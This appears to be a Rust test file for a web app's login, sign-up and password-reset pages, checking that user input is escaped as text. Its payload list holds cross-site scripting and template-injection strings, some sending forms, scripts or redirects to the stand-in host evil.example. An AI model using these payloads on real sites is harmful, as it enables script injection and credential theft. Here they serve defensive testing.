//! B-58, B-65b: markup and template code that people enter comes back as text, on every page.

use rocket::http::Method::Get;

use crate::app::{PASSWORD, TestApp};

/// Breaks out of text, of attributes, of scripts and styles, or is a template.
const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "\" onmouseover=\"alert(1)",
    "` onmouseover=alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--<script>-->alert(1)",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "</form><form action=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u{200b}script>alert(1)",
    "\u{202e}<script>alert(1)</script>",
    "{{7*7}}",
    "{{ site }}{{ config }}",
    "{% raw %}{% include \"layout\" %}",
    "{% for i in range(end=9) %}x{% endfor %}",
    "{# gone #}{{ get_env(name=\"HOME\") }}",
];

/// As the templates must write it.
fn escaped(text: &str) -> String {
    let mut out = String::new();
    for sign in text.chars() {
        match sign {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            '/' => out.push_str("&#x2F;"),
            other => out.push(other),
        }
    }
    out
}

#[test]
fn b58_b65b_what_a_form_brought_comes_back_as_text() {
    let app = TestApp::new();
    let browser = app.browser();
    for payload in PAYLOADS {
        let pair = [("email", payload), ("password", PASSWORD)];
        let value = format!("value=\"{}\"", escaped(payload));
        for (answer, code) in [
            (browser.post("/users", &pair), 422),
            (browser.post("/users", &[("email", payload)]), 422),
            (browser.post("/sessions", &pair), 401),
            (browser.post("/sessions", &[("email", payload)]), 422),
            (browser.post("/reset_password", &[("email", payload)]), 422),
            (browser.put("/reset_password", &[("email", payload)]), 422),
        ] {
            answer.is(code).says(&value);
            assert_eq!(answer.text().matches(&escaped(payload)).count(), 1, "{payload}");
            if escaped(payload) != payload {
                answer.does_not_say(payload);
            }
        }
    }
}

#[test]
fn b58_next_and_flags_come_back_as_text_or_not_at_all() {
    let app = TestApp::new();
    let browser = app.browser();
    for payload in PAYLOADS {
        let wrong = [("email", "ann@example.com"), ("password", "wrong harbour")];
        let next = format!("/{payload}");
        for answer in [
            browser.post("/sessions", &[wrong[0], wrong[1], ("next", payload)]),
            browser.post("/sessions", &[wrong[0], wrong[1], ("next", &next)]),
            browser.post("/sessions", &[wrong[0], wrong[1], ("remember", payload)]),
        ] {
            if escaped(payload) != payload {
                answer.is(401).does_not_say(payload);
            }
            answer.does_not_say("alert(1)>").does_not_say("/49\"");
        }
        let query: String = next.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let page = browser.get(&format!("/login?next={query}"));
        if escaped(payload) != payload {
            page.is(200).does_not_say(payload);
        }
    }
    // A path may hold quotes and braces; they are text in the form.
    let odd = browser.get("/login?next=/a%22b'%7B%7B7*7%7D%7D%3Cb%3E");
    odd.is(200).says("name=\"next\" value=\"&#x2F;a&quot;b&#x27;{{7*7}}&lt;b&gt;\"");
}

#[test]
fn b58_unknown_fields_and_paths_are_not_echoed_as_markup() {
    let app = TestApp::new();
    for payload in PAYLOADS {
        let query: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for path in [format!("/{query}"), format!("/?{query}"), format!("/reset_password/{query}")]
        {
            let page = app.browser().get(&path);
            page.does_not_say("alert(1)").does_not_say("evil.example").does_not_say(&query);
        }
        let body = serde_json::json!({ payload: payload, "email": "a" });
        let page = app.browser().json(rocket::http::Method::Post, "/users", &body);
        page.is(422).does_not_say("alert(1)").does_not_say("evil.example");
        let page = app.browser().send(Get, "/nowhere", &[("User-Agent", payload)], Vec::new());
        page.is(404).does_not_say("alert(1)");
    }
}

/// Addresses that people may have, of signs that mean something in markup or in templates.
const ODD_ADDRESSES: [&str; 6] = [
    "{{7*7}}@example.com",
    "{{account}}@example.com",
    "{%raw%}@example.com",
    "o'hara&sons@example.com",
    "&lt=x@example.com",
    "a/b=c'd`e@example.com",
];

#[test]
fn b58_b65b_an_odd_address_is_text_on_every_page_and_in_every_mail() {
    for email in ODD_ADDRESSES {
        let app = TestApp::new();
        let shown = escaped(email);
        let ann = app.signed_up(email);
        ann.post("/reset_password", &[("email", email)]).goes_to("/reset_password/sent");
        let letters = app.mailbox();
        let link = app.mailed_link();
        ann.get(&link).goes_to("/reset_password/new");
        let pages = [
            ann.get("/"),
            ann.get("/profile"),
            ann.get("/reset_password"),
            ann.get("/reset_password/sent"),
            ann.get("/reset_password/new"),
            ann.get("/dev/mailbox"),
            ann.post("/users", &[("email", email), ("password", PASSWORD)]),
        ];
        for page in pages {
            page.says(&shown).does_not_say("49@example.com");
            if shown != email {
                page.does_not_say(email);
            }
        }
        assert!(letters[0].text.contains(email), "{}", letters[0].text);
        assert!(letters[0].html.contains(&shown), "{}", letters[0].html);
        assert!(!letters[0].text.contains("49@"));
    }
}

#[test]
fn what_programs_read_is_as_it_was_written() {
    let app = TestApp::new();
    for email in ODD_ADDRESSES {
        let answer = app.program().post("/users", &[("email", email), ("password", PASSWORD)]);
        answer.is(200);
        assert_eq!(answer.json()["email"], email);
    }
}

#[test]
fn the_owners_settings_are_text_too() {
    let app = TestApp::with(
        "site_name = \"<b>R&D's</b> {{7*7}}\"\nfooter_links = [\"<i>Imprint</i> https://example.org/?a=\\\"b\"]",
        &[],
    );
    let page = app.browser().get("/");
    page.is(200).says("&lt;b&gt;R&amp;D&#x27;s&lt;&#x2F;b&gt; {{7*7}}").does_not_say("<b>");
    page.says("&lt;i&gt;Imprint").says("a=&quot;b\"").does_not_say("<i>");
}

/// As a page names a program that nobody knows.
fn named(payload: &str) -> String {
    let plain: String =
        payload.chars().filter(|sign| sign.is_ascii_graphic() || *sign == ' ').collect();
    format!("An unknown program: {}", escaped(&plain))
}

#[test]
fn b58_a_user_agent_comes_back_as_text() {
    // No header holds a control character.
    let payloads = PAYLOADS.into_iter().filter(|payload| !payload.contains('\0'));
    let app = TestApp::new();
    app.signed_up("ann@example.com");
    for payload in payloads {
        let pair = [("email", "ann@example.com"), ("password", PASSWORD)];
        let browser = app.browser();
        browser.header("User-Agent", payload);
        browser.post("/sessions", &pair).goes_to("/profile");
        browser.post("/sessions", &[pair[0], ("password", "wrong harbour")]).is(401);
        app.auth().journal().flush();
        for path in ["/account/sessions", "/account/history"] {
            let page = browser.get(path);
            page.is(200).says(&named(payload));
            if escaped(payload) != payload {
                page.does_not_say(payload);
            }
            page.does_not_say("alert(1)>").does_not_say("An unknown program: 49");
            let json = browser.send(Get, path, &[("Accept", "application/json")], Vec::new());
            let text = json.is(200).json().to_string();
            assert!(text.contains(&serde_json::json!(payload).to_string()), "{payload}");
        }
    }
}
